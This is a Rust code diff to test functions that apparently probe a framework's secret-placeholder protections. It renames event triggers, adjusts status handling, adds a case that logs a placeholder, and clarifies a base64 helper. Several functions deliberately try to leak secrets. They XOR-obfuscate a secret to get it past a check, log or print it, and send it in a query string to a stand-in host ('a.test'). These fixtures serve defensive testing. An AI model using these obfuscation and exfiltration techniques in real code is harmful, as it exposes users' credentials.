@@ -26,7 +26,7 @@ fn key() -> String {
 }
 
 /// Sends the secret in a header; answers with the status and nothing else.
-#[function(id = "sends", on("testing/asked"), retries = 4)]
+#[function(id = "sends", on("testing/secret.asked"), retries = 4)]
 async fn sends(ctx: Ctx, event: Incoming<Asked>) -> Result<u16> {
     let asked = &event.data;
     ctx.step("send", async |io| {
@@ -36,36 +36,36 @@ async fn sends(ctx: Ctx, event: Incoming<Asked>) -> Result<u16> {
             return Err(Error::stop("two placeholders in one call"));
         }
         let request = io.http().get(&asked.to).header("authorization", format!("Bearer {token}"));
-        Ok(request.send().await?.status())
+        Ok(request.send().await?.status)
     })
     .await
 }
 
 /// Sends the secret in the body.
-#[function(id = "sends-body", on("testing/asked"), retries = 4)]
+#[function(id = "sends-body", on("testing/secret.asked"), retries = 4)]
 async fn sends_body(ctx: Ctx, event: Incoming<Asked>) -> Result<u16> {
     let asked = &event.data;
     ctx.step("send", async |io| {
         let token = io.secrets().placeholder(&asked.secret)?;
         let body = serde_json::json!({ "key": token.as_str() });
-        Ok(io.http().post(&asked.to).json(&body).send().await?.status())
+        Ok(io.http().post(&asked.to).json(&body).send().await?.status)
     })
     .await
 }
 
 /// Sends some text of the event in a header, as it is.
-#[function(id = "sends-text", on("testing/asked"), retries = 4)]
+#[function(id = "sends-text", on("testing/secret.asked"), retries = 4)]
 async fn sends_text(ctx: Ctx, event: Incoming<Asked>) -> Result<u16> {
     let asked = &event.data;
     ctx.step("send", async |io| {
         let request = io.http().get(&asked.to).header("authorization", &asked.text);
-        Ok(request.send().await?.status())
+        Ok(request.send().await?.status)
     })
     .await
 }
 
 /// Lets a server send the secret back, and does with it what nobody should.
-#[function(id = "leaks", on("testing/asked"), retries = 4)]
+#[function(id = "leaks", on("testing/secret.asked"), retries = 4)]
 async fn leaks(ctx: Ctx, event: Incoming<Asked>) -> Result<Value> {
     let asked = &event.data;
     let told = ctx
@@ -78,12 +78,12 @@ async fn leaks(ctx: Ctx, event: Incoming<Asked>) -> Result<Value> {
         .await?;
     // A step that came through the check, whose result the function makes the secret of again.
     if asked.attempt == "output" {
-        let hidden: Vec<u8> = serde_json::from_value(told)?;
+        let hidden: Vec<u8> = serde_json::from_value(told).stop()?;
         let secret: String = hidden.into_iter().map(|byte| char::from(byte ^ 1)).collect();
         return Ok(secret.into());
     }
     if asked.attempt == "step-name" {
-        let hidden: Vec<u8> = serde_json::from_value(told)?;
+        let hidden: Vec<u8> = serde_json::from_value(told).stop()?;
         let secret: String = hidden.into_iter().map(|byte| char::from(byte ^ 1)).collect();
         ctx.fetch("report", format!("https://a.test/?{secret}")).await?;
         return Ok(Value::Null);
@@ -105,6 +105,10 @@ fn leak(attempt: &str, secret: &str, token: &str) -> Result<Value> {
             log::warn!("it is {secret}");
             Ok("logged".into())
         }
+        "log-placeholder" => {
+            log::warn!("it is {token}");
+            Ok("logged".into())
+        }
         "print" => {
             println!("it is {secret}");
             std::process::abort()
@@ -124,17 +128,17 @@ fn base64(bytes: &[u8]) -> String {
     const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut text = String::new();
     for group in bytes.chunks(3) {
-        let bits = group.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte));
+        let bits = group.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte));
         let bits = bits << (8 * (3 - group.len()));
         for digit in 0..=group.len() {
-            text.push(char::from(DIGITS[(bits >> (18 - 6 * digit) & 63) as usize]));
+            text.push(char::from(DIGITS[((bits >> (18 - 6 * digit)) & 63) as usize]));
         }
     }
     text
 }
 
 /// Asks for a placeholder outside of a step.
-#[function(id = "asks-outside", on("testing/asked"), retries = 4)]
+#[function(id = "asks-outside", on("testing/secret.asked"), retries = 4)]
 async fn asks_outside(ctx: Ctx, event: Incoming<Asked>) -> Result<usize> {
     use std::cell::RefCell;
 
